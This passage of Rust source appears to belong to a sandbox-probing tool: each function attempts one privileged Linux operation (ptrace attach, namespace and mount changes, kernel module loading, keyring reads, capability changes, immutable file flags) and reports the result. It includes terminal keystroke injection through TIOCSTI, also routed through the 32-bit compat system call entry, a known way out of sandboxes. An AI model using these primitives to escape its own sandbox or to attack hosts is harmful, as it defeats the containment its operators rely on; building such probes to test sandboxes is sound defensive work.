    Ok(format!("flood {} connected {failed} failed", held.len()))
}

fn ptrace(pid: i32) -> Outcome {
    // SAFETY: PTRACE_ATTACH takes a pid and no data.
    let r = unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) };
    if r < 0 {
        return Err(errno());
    }
    // SAFETY: detach what was just attached.
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
    Ok("attached".to_owned())
}

fn clone_into_cgroup(dir: &OsStr) -> Outcome {
    let cgroup = open(dir, libc::O_PATH | libc::O_DIRECTORY)?;
    /// `struct clone_args` (version 2, with `cgroup`).
    #[repr(C)]
    #[derive(Default)]
    struct CloneArgs {
        flags: u64,
        pidfd: u64,
        child_tid: u64,
        parent_tid: u64,
        exit_signal: u64,
        stack: u64,
        stack_size: u64,
        tls: u64,
        set_tid: u64,
        set_tid_size: u64,
        cgroup: u64,
    }
    let args = CloneArgs {
        flags: 0x2_0000_0000, // CLONE_INTO_CGROUP
        exit_signal: libc::SIGCHLD as u64,
        cgroup: cgroup as u64,
        ..CloneArgs::default()
    };
    // SAFETY: a fork-like clone3 without a new stack; the child exits at once.
    let child = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &args as *const CloneArgs,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    close(cgroup);
    match child {
        // SAFETY: leave the child at once.
        0 => unsafe { libc::_exit(0) },
        -1 => Err(errno()),
        child => {
            let mut status = 0;
            // SAFETY: waiting for our own child.
            unsafe { libc::waitpid(child as i32, &mut status, 0) };
            Ok("cloned".to_owned())
        }
    }
}

fn bind_mount(src: &OsStr, dst: &OsStr) -> Outcome {
    // SAFETY: unshare and mount with valid arguments.
    if unsafe { libc::unshare(libc::CLONE_NEWNS) } < 0 {
        return Err(errno());
    }
    let (src, dst) = (c(src), c(dst));
    done(
        unsafe {
            libc::mount(
                src.as_ptr(),
                dst.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null(),
            )
        },
        "mounted",
    )
}

/// Makes a sandbox as bubblewrap does, unprivileged: a new user namespace
/// (mapping only the caller's own ids, as any user may) and a new mount
/// namespace it owns, whose mounts stay in it.
fn sandbox() -> Outcome {
    // SAFETY: plain system calls on this single-threaded process.
    let (uid, gid) = unsafe { (libc::geteuid(), libc::getegid()) };
    if unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) } < 0 {
        return Err(errno());
    }
    for (file, map) in [
        ("/proc/self/setgroups", "deny".to_owned()),
        ("/proc/self/uid_map", format!("0 {uid} 1")),
        ("/proc/self/gid_map", format!("0 {gid} 1")),
    ] {
        write(OsStr::new(file), libc::O_WRONLY, OsStr::new(&map))?;
    }
    let root = c(OsStr::new("/"));
    done(
        unsafe {
            libc::mount(
                std::ptr::null(),
                root.as_ptr(),
                std::ptr::null(),
                libc::MS_REC | libc::MS_PRIVATE,
                std::ptr::null(),
            )
        },
        "sandboxed",
    )
}

fn mount_tmpfs(dir: &OsStr) -> Outcome {
    let (tmpfs, dir) = (c(OsStr::new("tmpfs")), c(dir));
    // SAFETY: mount with valid names.
    done(
        unsafe {
            libc::mount(
                tmpfs.as_ptr(),
                dir.as_ptr(),
                tmpfs.as_ptr(),
                0,
                std::ptr::null(),
            )
        },
        "mounted",
    )
}

/// Enters the user namespace of process `pid`.
fn setns_user(pid: i32) -> Outcome {
    let fd = open(OsStr::new(&format!("/proc/{pid}/ns/user")), libc::O_RDONLY)?;
    // SAFETY: setns on a descriptor we opened.
    let entered = unsafe { libc::setns(fd, libc::CLONE_NEWUSER) };
    close(fd);
    done(entered, "entered")
}

fn bind_port(port: u16) -> Outcome {
    // SAFETY: a plain socket, bound to a zeroed and filled sockaddr_in.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        if fd < 0 {
            return Err(errno());
        }
        let mut addr: libc::sockaddr_in = std::mem::zeroed();
        addr.sin_family = libc::AF_INET as u16;
        addr.sin_port = port.to_be();
        let r = libc::bind(
            fd,
            (&raw const addr).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as u32,
        );
        let result = done(r, "bound");
        close(fd);
        result
    }
}

fn kill_child() -> Outcome {
    // SAFETY: the child only sleeps until it is killed.
    match unsafe { libc::fork() } {
        -1 => Err(errno()),
        0 => loop {
            // SAFETY: async-signal-safe; the parent's SIGTERM ends it.
            unsafe { libc::pause() };
        },
        child => {
            // SAFETY: our own child, killed then reaped.
            let r = unsafe { libc::kill(child, libc::SIGTERM) };
            let sent = if r < 0 { Err(errno()) } else { Ok(()) };
            if sent.is_err() {
                unsafe { libc::kill(child, libc::SIGKILL) };
            }
            let mut status = 0;
            unsafe { libc::waitpid(child, &mut status, 0) };
            sent?;
            if libc::WIFSIGNALED(status) && libc::WTERMSIG(status) == libc::SIGTERM {
                Ok("killed".to_owned())
            } else {
                Err(libc::ECHILD)
            }
        }
    }
}

/// `fsconfig(2)` commands and `mount_setattr(2)` attributes.
const FSCONFIG_SET_FLAG: u32 = 0;
const FSCONFIG_CMD_CREATE: u32 = 6;
const FSCONFIG_CMD_RECONFIGURE: u32 = 7;
const MOVE_MOUNT_F_EMPTY_PATH: u32 = 0x4;
const MOUNT_ATTR_RDONLY: u64 = 0x1;

fn fsconfig(fd: i32, cmd: u32, key: Option<&str>) -> Result<(), i32> {
    let key = key.map(|k| c(OsStr::new(k)));
    let key_ptr = key.as_ref().map_or(std::ptr::null(), |k| k.as_ptr());
    // SAFETY: a command with an optional NUL-terminated key and no value.
    let r = unsafe {
        libc::syscall(
            libc::SYS_fsconfig,
            fd,
            cmd,
            key_ptr,
            std::ptr::null::<u8>(),
            0,
        )
    };
    if r < 0 { Err(errno()) } else { Ok(()) }
}

fn fsopen_mount(dir: &OsStr) -> Outcome {
    let tmpfs = c(OsStr::new("tmpfs"));
    // SAFETY: the new mount API with valid names and descriptors.
    let fs = unsafe { libc::syscall(libc::SYS_fsopen, tmpfs.as_ptr(), 1u32) } as i32;
    if fs < 0 {
        return Err(errno());
    }
    let result = fsconfig(fs, FSCONFIG_CMD_CREATE, None).and_then(|()| {
        let mnt = unsafe { libc::syscall(libc::SYS_fsmount, fs, 1u32, 0u32) } as i32;
        if mnt < 0 {
            return Err(errno());
        }
        let empty = c(OsStr::new(""));
        let dir = c(dir);
        let r = unsafe {
            libc::syscall(
                libc::SYS_move_mount,
                mnt,
                empty.as_ptr(),
                libc::AT_FDCWD,
                dir.as_ptr(),
                MOVE_MOUNT_F_EMPTY_PATH,
            )
        } as i32;
        close(mnt);
        done(r, "mounted").map(|_| ())
    });
    close(fs);
    result.map(|()| "mounted".to_owned())
}

fn fspick_ro(dir: &OsStr) -> Outcome {
    let dir = c(dir);
    // SAFETY: fspick of a path, FSPICK_CLOEXEC.
    let fs = unsafe { libc::syscall(libc::SYS_fspick, libc::AT_FDCWD, dir.as_ptr(), 1u32) } as i32;
    if fs < 0 {
        return Err(errno());
    }
    let result = fsconfig(fs, FSCONFIG_SET_FLAG, Some("ro"))
        .and_then(|()| fsconfig(fs, FSCONFIG_CMD_RECONFIGURE, None));
    close(fs);
    result.map(|()| "reconfigured".to_owned())
}

fn mount_setattr_ro(dir: &OsStr) -> Outcome {
    /// `struct mount_attr`.
    #[repr(C)]
    struct MountAttr {
        attr_set: u64,
        attr_clr: u64,
        propagation: u64,
        userns_fd: u64,
    }
    let attr = MountAttr {
        attr_set: MOUNT_ATTR_RDONLY,
        attr_clr: 0,
        propagation: 0,
        userns_fd: 0,
    };
    let dir = c(dir);
    // SAFETY: a valid path and a struct of the size passed.
    let r = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            libc::AT_FDCWD,
            dir.as_ptr(),
            0u32,
            &raw const attr,
            std::mem::size_of::<MountAttr>(),
        )
    };
    done(r as i32, "set")
}

fn fanotify_perm(path: &OsStr) -> Outcome {
    // SAFETY: a new fanotify group, marked then closed at once (closing it
    // answers any permission event it would have held).
    let fd = unsafe {
        libc::fanotify_init(
            libc::FAN_CLASS_CONTENT | libc::FAN_CLOEXEC,
            libc::O_RDONLY as u32,
        )
    };
    if fd < 0 {
        return Err(errno());
    }
    let path = c(path);
    let r = unsafe {
        libc::fanotify_mark(
            fd,
            libc::FAN_MARK_ADD,
            libc::FAN_OPEN_PERM,
            libc::AT_FDCWD,
            path.as_ptr(),
        )
    };
    let result = done(r, "marked");
    close(fd);
    result
}

fn msg_send(id: i32) -> Outcome {
    /// A message: its type, then its text.
    #[repr(C)]
    struct Message {
        mtype: libc::c_long,
        text: [u8; 4],
    }
    let message = Message {
        mtype: 1,
        text: *b"ping",
    };
    // SAFETY: a message of the size passed.
    done(
        unsafe { libc::msgsnd(id, (&raw const message).cast(), 4, libc::IPC_NOWAIT) },
        "sent",
    )
}

fn shm_attach(id: i32) -> Outcome {
    // SAFETY: attach anywhere, detach at once.
    let at = unsafe { libc::shmat(id, std::ptr::null(), libc::SHM_RDONLY) };
    if at as isize == -1 {
        return Err(errno());
    }
    unsafe { libc::shmdt(at) };
    Ok("attached".to_owned())
}

fn sem_op(id: i32) -> Outcome {
    let mut op = libc::sembuf {
        sem_num: 0,
        sem_op: 1,
        sem_flg: libc::IPC_NOWAIT as i16,
    };
    // SAFETY: one operation on semaphore 0.
    done(unsafe { libc::semop(id, &mut op, 1) }, "done")
}

fn msg_remove(id: i32) -> Outcome {
    // SAFETY: IPC_RMID takes no buffer.
    done(
        unsafe { libc::msgctl(id, libc::IPC_RMID, std::ptr::null_mut()) },
        "removed",
    )
}

fn shm_remove(id: i32) -> Outcome {
    // SAFETY: IPC_RMID takes no buffer.
    done(
        unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) },
        "removed",
    )
}

fn sem_remove(id: i32) -> Outcome {
    // SAFETY: IPC_RMID of the whole set.
    done(unsafe { libc::semctl(id, 0, libc::IPC_RMID) }, "removed")
}

fn ipc_own() -> Outcome {
    let perms = libc::IPC_CREAT | 0o600;
    // SAFETY: private objects, used and removed here.
    let msg = unsafe { libc::msgget(libc::IPC_PRIVATE, perms) };
    done(msg, "")?;
    msg_send(msg)?;
    let mut buf = [0u8; 64];
    let n = unsafe { libc::msgrcv(msg, buf.as_mut_ptr().cast(), 56, 0, libc::IPC_NOWAIT) };
    if n != 4 {
        return Err(errno());
    }
    msg_remove(msg)?;
    let shm = unsafe { libc::shmget(libc::IPC_PRIVATE, 4096, perms) };
    done(shm, "")?;
    shm_attach(shm)?;
    shm_remove(shm)?;
    let sem = unsafe { libc::semget(libc::IPC_PRIVATE, 1, perms) };
    done(sem, "")?;
    sem_op(sem)?;
    sem_remove(sem)?;
    Ok("queue, segment and semaphores used".to_owned())
}

/// `keyctl(2)` commands.
const KEYCTL_JOIN_SESSION_KEYRING: i32 = 1;
const KEYCTL_READ: i32 = 11;
/// `KEY_SPEC_SESSION_KEYRING`.
const KEY_SPEC_SESSION_KEYRING: i32 = -3;

fn key_read(serial: i32) -> Outcome {
    let mut buf = [0u8; 256];
    // SAFETY: a buffer of the length passed.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_READ,
            serial,
            buf.as_mut_ptr(),
            buf.len(),
        )
    };
    if n < 0 {
        Err(errno())
    } else {
        Ok(format!("read {n}"))
    }
}

fn key_own() -> Outcome {
    // SAFETY: an anonymous session keyring, then a user key in it.
    let ring = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_JOIN_SESSION_KEYRING,
            std::ptr::null::<u8>(),
        )
    };
    if ring < 0 {
        return Err(errno());
    }
    let (kind, name) = (c(OsStr::new("user")), c(OsStr::new("own")));
    let key = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            kind.as_ptr(),
            name.as_ptr(),
            b"mine".as_ptr(),
            4usize,
            KEY_SPEC_SESSION_KEYRING,
        )
    };
    if key < 0 {
        return Err(errno());
    }
    key_read(key as i32)
}

fn finit_module(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let empty = c(OsStr::new(""));
    // SAFETY: an open descriptor and empty parameters.
    let r = unsafe { libc::syscall(libc::SYS_finit_module, fd, empty.as_ptr(), 0) };
    close(fd);
    done(r as i32, "loaded")
}

fn init_module(path: &OsStr) -> Outcome {
    let image = std::fs::read(path).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let empty = c(OsStr::new(""));
    // SAFETY: the image's bytes and length, and empty parameters.
    let r = unsafe {
        libc::syscall(
            libc::SYS_init_module,
            image.as_ptr(),
            image.len(),
            empty.as_ptr(),
        )
    };
    done(r as i32, "loaded")
}

fn peek(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let mut buf = [0u8; 64];
    // SAFETY: buf is valid for its length.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    close(fd);
    if n < 0 {
        Err(errno())
    } else {
        Ok(format!("peeked {n}"))
    }
}

fn inotify(path: &OsStr) -> Outcome {
    // SAFETY: a new inotify instance, watched once, closed.
    let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
    if fd < 0 {
        return Err(errno());
    }
    let path = c(path);
    let w = unsafe { libc::inotify_add_watch(fd, path.as_ptr(), libc::IN_ALL_EVENTS) };
    let result = done(w, "watching");
    close(fd);
    result
}

/// Opens `path` for reading, makes one call on the descriptor (returning -1
/// and setting errno on failure) and closes it.
fn on_file(path: &OsStr, call: impl FnOnce(i32) -> i32) -> Result<(), i32> {
    let fd = open(path, libc::O_RDONLY)?;
    let r = call(fd);
    let result = if r < 0 { Err(errno()) } else { Ok(()) };
    close(fd);
    result
}

/// `CAP_FSETID`: keeps set-id bits when a file is written or truncated.
const CAP_FSETID: u32 = 4;

fn drop_fsetid() -> Outcome {
    /// `struct __user_cap_header_struct`.
    #[repr(C)]
    struct Header {
        version: u32,
        pid: i32,
    }
    /// `struct __user_cap_data_struct`.
    #[repr(C)]
    #[derive(Clone, Copy, Default)]
    struct Data {
        effective: u32,
        permitted: u32,
        inheritable: u32,
    }
    let mut header = Header {
        version: 0x2008_0522, // _LINUX_CAPABILITY_VERSION_3
        pid: 0,
    };
    let mut data = [Data::default(); 2];
    // SAFETY: a version 3 header and the two data words it asks for.
    let r = unsafe { libc::syscall(libc::SYS_capget, &raw mut header, data.as_mut_ptr()) };
    if r < 0 {
        return Err(errno());
    }
    data[0].effective &= !(1 << CAP_FSETID);
    // SAFETY: as above.
    let r = unsafe { libc::syscall(libc::SYS_capset, &raw mut header, data.as_ptr()) };
    done(r as i32, "dropped")
}

/// A page below 4 GiB, where a 32-bit system call can point.
fn low_page() -> Result<*mut u8, i32> {
    // SAFETY: a fresh anonymous mapping.
    let page = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if page == libc::MAP_FAILED {
        return Err(errno());
    }
    Ok(page.cast())
}

/// `ioctl(fd, cmd, arg)` through the 32-bit system call entry (`int 0x80`,
/// number 54), as a 32-bit process makes it: the kernel's compat path.
/// Returns what the system call returns (a negative errno on failure).
fn ioctl32(fd: i32, cmd: u32, arg: *mut u8) -> i64 {
    let ret: i64;
    // SAFETY: the 32-bit entry takes its arguments in ebx, ecx and edx and
    // clobbers r8-r11; rbx is saved around the call, as Rust reserves it.
    unsafe {
        std::arch::asm!(
            "xchg {fd:r}, rbx",
            "int 0x80",
            "xchg {fd:r}, rbx",
            fd = inout(reg) i64::from(fd) => _,
            inlateout("rax") 54i64 => ret,
            in("rcx") i64::from(cmd),
            in("rdx") arg as i64,
            out("r8") _,
            out("r9") _,
            out("r10") _,
            out("r11") _,
        );
    }
    // The result is a 32-bit value.
    i64::from(ret as i32)
}

fn sti(fd: i32, text: &OsStr, compat: bool) -> Outcome {
    let page = low_page()?;
    let text = text.as_bytes().to_vec();
    let text = String::from_utf8_lossy(&text).replace("\\n", "\n");
    let mut pushed = 0;
    for &byte in text.as_bytes() {
        // SAFETY: `page` is a mapped, writable page.
        unsafe { page.write(byte) };
        let r = if compat {
            ioctl32(fd, libc::TIOCSTI as u32, page)
        } else {
            // SAFETY: TIOCSTI reads one byte at the pointer.
            i64::from(unsafe { libc::ioctl(fd, libc::TIOCSTI, page) })
        };
        if r < 0 {
            return Err(if compat { -r as i32 } else { errno() });
        }
        pushed += 1;
    }
    Ok(format!("injected {pushed}"))
}

/// `FS_IMMUTABLE_FL`, `FS_APPEND_FL`, `FS_NODUMP_FL`.
const FS_IMMUTABLE_FL: u32 = 0x10;
const FS_APPEND_FL: u32 = 0x20;
const FS_NODUMP_FL: u32 = 0x40;

fn set_flags(path: &OsStr, which: &OsStr, compat: bool) -> Outcome {
    let flags = match which.as_bytes() {
        b"i" => FS_IMMUTABLE_FL,
        b"a" => FS_APPEND_FL,
        b"d" => FS_NODUMP_FL,
        _ => 0,
    };
    let page = low_page()?;
    // SAFETY: the page holds at least an int, which the calls read.
    unsafe { page.cast::<u32>().write(flags) };
    on_file(path, |fd| {
        if compat {
            // `FS_IOC32_SETFLAGS`: `_IOW('f', 2, int)`.
            match ioctl32(fd, 0x4004_6602, page) {
                r if r < 0 => {
                    // SAFETY: errno is this thread's.
                    unsafe { *libc::__errno_location() = -r as i32 };
                    -1
                }
                _ => 0,
            }
        } else {
            // SAFETY: as above.
            unsafe { libc::ioctl(fd, libc::FS_IOC_SETFLAGS, page) }
        }
    })
    .map(|()| format!("set {flags:#x}"))
}

fn fsxattr_immutable(path: &OsStr) -> Outcome {
    /// `struct fsxattr`.
    #[repr(C)]
    #[derive(Default)]
    struct FsXattr {
        xflags: u32,
        extsize: u32,
        nextents: u32,
        projid: u32,
        cowextsize: u32,
        pad: [u8; 8],
    }
    /// `FS_IOC_FSGETXATTR`, `FS_IOC_FSSETXATTR`, `FS_XFLAG_IMMUTABLE`.
    const GET: libc::Ioctl = 0x801c_581f;
    const SET: libc::Ioctl = 0x401c_5820;
    const IMMUTABLE: u32 = 0x8;
    let mut attr = FsXattr::default();
    on_file(path, |fd| {
        // SAFETY: the calls read and write a `struct fsxattr`.
        if unsafe { libc::ioctl(fd, GET, &raw mut attr) } < 0 {
            return -1;
        }
        attr.xflags |= IMMUTABLE;
        unsafe { libc::ioctl(fd, SET, &raw const attr) }
    })
    .map(|()| "set".to_owned())
}

fn clone_from(dest: i32, src: &OsStr) -> Outcome {
    let src = open(src, libc::O_RDONLY)?;
    // SAFETY: FICLONE takes the source descriptor as its argument.
    let r = unsafe { libc::ioctl(dest, libc::FICLONE, src) };
    close(src);
    done(r, "cloned")
}
